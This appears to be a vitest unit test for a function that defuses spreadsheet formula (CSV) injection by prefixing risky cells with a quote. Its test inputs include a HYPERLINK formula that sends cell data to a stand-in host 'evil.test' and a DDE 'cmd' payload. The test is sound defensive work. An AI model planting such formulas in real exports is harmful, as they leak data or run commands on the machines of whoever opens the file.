// Cells a spreadsheet would run as formulas get a leading quote (OWASP's CSV injection advice); numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '../../server/io/spreadsheet-safe.ts';

describe('spreadsheetSafe', () => {
  it('neutralises every cell that starts with =, +, -, @, a tab or a carriage return', () => {
    for (const cell of ['=HYPERLINK("http://evil.test/?leak="&B2,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '=', '-']) {
      expect(spreadsheetSafe(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    }
  });

  it('leaves other text, real numbers and texts that are plain numbers as they are', () => {
    for (const cell of ['张伟是哪个部门的？', ' =not a formula after a space', '["=in a list"]', '', '1=1', "'already quoted"]) expect(spreadsheetSafe(cell)).toBe(cell);
    for (const n of [-3, 0.5, -0.25, 1e-9]) expect(spreadsheetSafe(n)).toBe(n);
    for (const text of ['-3', '+0.5', '-1.5e-3', '-.5']) expect(spreadsheetSafe(text)).toBe(text);
    expect(spreadsheetSafe(null)).toBe(null);
  });
});
